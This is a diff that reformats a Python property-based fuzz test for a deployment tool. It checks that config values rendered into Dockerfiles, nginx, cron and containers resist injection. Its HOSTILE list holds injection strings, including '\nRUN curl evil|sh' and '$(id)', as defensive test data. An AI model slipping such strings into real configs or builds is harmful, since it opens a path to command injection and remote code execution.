@@ -70,9 +70,15 @@ SKELETON: dict[str, Any] = {
         "redis": {"type": "redis"},
         "search": {"type": "opensearch"},
         "api": {
-            "type": "python", "port": 8000, "domain": "api.example.com", "depends_on": ["postgres", "redis"],
-            "build_context": "api", "python_version": "3.12", "requirements_files": ["requirements.txt"],
-            "command": "gunicorn -b 0.0.0.0:8000 app:app", "health_path": "/healthz",
+            "type": "python",
+            "port": 8000,
+            "domain": "api.example.com",
+            "depends_on": ["postgres", "redis"],
+            "build_context": "api",
+            "python_version": "3.12",
+            "requirements_files": ["requirements.txt"],
+            "command": "gunicorn -b 0.0.0.0:8000 app:app",
+            "health_path": "/healthz",
             "env_vars": {"DATABASE_URL": "auto", "REDIS_URL": "auto", "TOKEN": "secret:api/token"},
             "build_args": {"PIP_INDEX_URL": "https://pypi.example.com/simple"},
         },
@@ -85,26 +91,89 @@ SKELETON: dict[str, Any] = {
 
 #: Good values per key, the raw material of nearly valid hostile values.
 GOOD: dict[str, list[Any]] = {
-    "python_version": ["3.12", "3.11.9"], "node_version": ["20", "18.19.0"], "version": ["15", "7-alpine", "2"],
-    "command": ["python app.py", "node server.js"], "build_command": ["npm run build"], "health_path": ["/", "/healthz?x=1"],
-    "domain": ["api.example.com", "www.example.com"], "build_dir": ["build", "dist/app"], "requirements_files": [["requirements.txt"]],
-    "image": ["busybox:1.36", "localhost:5000/x/y:1"], "registry": ["registry.example.com:5000"],
-    "default_server_ip": ["10.0.0.1", "server.example.com"], "description": ["shop"], "name": ["shop"],
-    "schedule": ["0 2 * * *", "@daily"], "git_repo": ["https://github.com/user/api.git@main"], "nginx_config": ["server { listen 80; }"],
-    "dockerfile": ["Dockerfile"], "docker_hub_user": ["me"], "server_zone": ["lon1", "nyc3"], "provider": ["local"],
-    "servers_count": [1, 2], "server_cpu": [1, 2], "server_memory": [1024], "port": [8000, 9000], "startup_order": [9],
-    "auto_scaling": [True, False], "depends_on": [[]], "env_vars": [{"A": "b"}], "volumes": [{"/local/shop/x": "/data:ro"}],
-    "build_args": [{"A": "b"}], "zones": [["lon1"]], "http_port": [8081], "https_port": [8444], "package_manager": ["npm", "pnpm"],
-    "backup_config": [{"enabled": False}], "dockerfile_content": [{"1": "FROM busybox"}], "git_token": ["secret:x/y"],
+    "python_version": ["3.12", "3.11.9"],
+    "node_version": ["20", "18.19.0"],
+    "version": ["15", "7-alpine", "2"],
+    "command": ["python app.py", "node server.js"],
+    "build_command": ["npm run build"],
+    "health_path": ["/", "/healthz?x=1"],
+    "domain": ["api.example.com", "www.example.com"],
+    "build_dir": ["build", "dist/app"],
+    "requirements_files": [["requirements.txt"]],
+    "image": ["busybox:1.36", "localhost:5000/x/y:1"],
+    "registry": ["registry.example.com:5000"],
+    "default_server_ip": ["10.0.0.1", "server.example.com"],
+    "description": ["shop"],
+    "name": ["shop"],
+    "schedule": ["0 2 * * *", "@daily"],
+    "git_repo": ["https://github.com/user/api.git@main"],
+    "nginx_config": ["server { listen 80; }"],
+    "dockerfile": ["Dockerfile"],
+    "docker_hub_user": ["me"],
+    "server_zone": ["lon1", "nyc3"],
+    "provider": ["local"],
+    "servers_count": [1, 2],
+    "server_cpu": [1, 2],
+    "server_memory": [1024],
+    "port": [8000, 9000],
+    "startup_order": [9],
+    "auto_scaling": [True, False],
+    "depends_on": [[]],
+    "env_vars": [{"A": "b"}],
+    "volumes": [{"/local/shop/x": "/data:ro"}],
+    "build_args": [{"A": "b"}],
+    "zones": [["lon1"]],
+    "http_port": [8081],
+    "https_port": [8444],
+    "package_manager": ["npm", "pnpm"],
+    "backup_config": [{"enabled": False}],
+    "dockerfile_content": [{"1": "FROM busybox"}],
+    "git_token": ["secret:x/y"],
 }
 #: Fragments that break out of a Dockerfile line, an nginx directive, a shell word or a terminal.
-HOSTILE = ["\n", "\nRUN curl evil|sh", "\r", "\x00", " ", "\t", ";", "{", "}", "'", '"', "$(id)", "`id`", "../", "/", "\\",
-           "\x1b]0;t\x07", "\u202e", "é", "%", "%zz", "#", ":", "@", "&&", "|", "*", "{version}", "-", "--", "A" * 300]
+HOSTILE = [
+    "\n",
+    "\nRUN curl evil|sh",
+    "\r",
+    "\x00",
+    " ",
+    "\t",
+    ";",
+    "{",
+    "}",
+    "'",
+    '"',
+    "$(id)",
+    "`id`",
+    "../",
+    "/",
+    "\\",
+    "\x1b]0;t\x07",
+    "\u202e",
+    "é",
+    "%",
+    "%zz",
+    "#",
+    ":",
+    "@",
+    "&&",
+    "|",
+    "*",
+    "{version}",
+    "-",
+    "--",
+    "A" * 300,
+]
 
 text = st.text(st.characters(blacklist_categories=["Cs"]), max_size=20)
 scalars = st.one_of(
-    text, st.sampled_from(HOSTILE), st.integers(), st.integers(min_value=2**63 - 2, max_value=2**70), st.booleans(),
-    st.floats(allow_nan=True), st.none().map(lambda _: ""),
+    text,
+    st.sampled_from(HOSTILE),
+    st.integers(),
+    st.integers(min_value=2**63 - 2, max_value=2**70),
+    st.booleans(),
+    st.floats(allow_nan=True),
+    st.none().map(lambda _: ""),
 )
 anything = st.recursive(scalars, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(text, inner, max_size=3), max_leaves=6)
 
@@ -133,7 +202,9 @@ def nearly_text(base: str) -> st.SearchStrategy[str]:
     """``base`` with a fragment inserted at some position (or replacing it)."""
     return st.builds(
         lambda fragment, at, mode: fragment if mode == 0 else base[:at] + fragment + base[at:],
-        st.sampled_from(HOSTILE) | st.sampled_from(BENIGN) | text, st.integers(0, len(base)), st.integers(0, 4),
+        st.sampled_from(HOSTILE) | st.sampled_from(BENIGN) | text,
+        st.integers(0, len(base)),
+        st.integers(0, 4),
     )
 
 
@@ -202,12 +273,30 @@ def documents(draw: st.DrawFn) -> dict[str, Any]:
 MUTATION_PATHS = _mutation_paths()
 #: Keys whose text reaches a Dockerfile, nginx, a container, a cron table or an image tag.
 RENDERED_KEYS = {
-    "python_version", "node_version", "version", "command", "build_command", "health_path", "domain", "build_dir",
-    "requirements_files", "image", "registry", "default_server_ip", "description", "nginx_config", "schedule",
-    "python", "node", "nginx", "postgres", "redis", "opensearch", "docker_hub_user",
+    "python_version",
+    "node_version",
+    "version",
+    "command",
+    "build_command",
+    "health_path",
+    "domain",
+    "build_dir",
+    "requirements_files",
+    "image",
+    "registry",
+    "default_server_ip",
+    "description",
+    "nginx_config",
+    "schedule",
+    "python",
+    "node",
+    "nginx",
+    "postgres",
+    "redis",
+    "opensearch",
+    "docker_hub_user",
 }
-RENDERED_PATHS = [p for p in MUTATION_PATHS if p[-1] in RENDERED_KEYS or (p[-1] == "X" and p[-2] in (
-    "env_vars", "build_args", "dockerfile_content", "volumes", "backup_config"))]
+RENDERED_PATHS = [p for p in MUTATION_PATHS if p[-1] in RENDERED_KEYS or (p[-1] == "X" and p[-2] in ("env_vars", "build_args", "dockerfile_content", "volumes", "backup_config"))]
 
 # --- rendering every artifact --------------------------------------------------------------------
 
@@ -234,9 +323,18 @@ def _containers(project: Project, env: str, manager: Any) -> None:
         stype = registry.service_types[spec.type]
         slot = JOB_SLOT if spec.is_scheduled else (STATEFUL_SLOT if stype.stateful else SLOTS[0])
         built = build_container(
-            project=project, env=env, service=spec, stype=stype, parts=None, image=f"shop-{name}:1", image_id="sha256:0",
-            ports=PortAssignment(host=8000 + i, internal=5000 + i), slot=slot, data_root="/srv/pd",
-            resolve_secret=lambda ref: "s3cret", service_types=registry.service_types,
+            project=project,
+            env=env,
+            service=spec,
+            stype=stype,
+            parts=None,
+            image=f"shop-{name}:1",
+            image_id="sha256:0",
+            ports=PortAssignment(host=8000 + i, internal=5000 + i),
+            slot=slot,
+            data_root="/srv/pd",
+            resolve_secret=lambda ref: "s3cret",
+            service_types=registry.service_types,
         )
         _docker_accepts(built.spec)
 
@@ -266,10 +364,15 @@ def _routes(project: Project, env: str, *, loopback: bool = False) -> list[Route
             continue
         stype = registry.service_types[spec.type]
         host = "127.0.0.1" if loopback else container_name(project.name, env, name, STATEFUL_SLOT if stype.stateful else SLOTS[0])
-        routes.append(Route(
-            service=name, internal_port=5000 + i, protocol="tcp" if stype.stateful or not stype.web else "http",
-            backends=(Backend(host=host, port=spec.port),), domain=spec.domain,
-        ))
+        routes.append(
+            Route(
+                service=name,
+                internal_port=5000 + i,
+                protocol="tcp" if stype.stateful or not stype.web else "http",
+                backends=(Backend(host=host, port=spec.port),),
+                domain=spec.domain,
+            )
+        )
     return routes
 
 
@@ -312,8 +415,16 @@ def _schedules(project: Project, env: str, manager: Any) -> None:
             BACKUP_JOBS_SEEN.add((project.name, env, name, spec.type))
             method = manager.hook.backup_method(service=spec)
             target = BackupTarget(
-                project=project, env=env, service=spec, server=None, runtime=None, image="img:1",  # type: ignore[arg-type]
-                host=container_name(project.name, env, name, STATEFUL_SLOT), port=spec.port or 1, policy=policy, python_image="python:3",
+                project=project,
+                env=env,
+                service=spec,
+                server=None,
+                runtime=None,
+                image="img:1",  # type: ignore[arg-type]
+                host=container_name(project.name, env, name, STATEFUL_SLOT),
+                port=spec.port or 1,
+                policy=policy,
+                python_image="python:3",
             )
             job = method.backup_job(target)
             for arg in job.command:
@@ -355,8 +466,10 @@ def _nginx_t(files: Mapping[str, str], where: Path, stream: tuple[bool, str]) ->
 def pd_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
     """A private $PROJECTDEPLOYER_HOME; recorded ports and passwords as a deploy would have them."""
     monkeypatch.setenv("PROJECTDEPLOYER_HOME", str(tmp_path / "home"))
-    with mock.patch.object(ResourceResolver, "get_service_port", staticmethod(lambda project, env, service: 5001)), \
-         mock.patch.object(ResourceResolver, "get_service_password", staticmethod(lambda project, env, service: "pw")):
+    with (
+        mock.patch.object(ResourceResolver, "get_service_port", staticmethod(lambda project, env, service: 5001)),
+        mock.patch.object(ResourceResolver, "get_service_password", staticmethod(lambda project, env, service: "pw")),
+    ):
         yield tmp_path
 
 
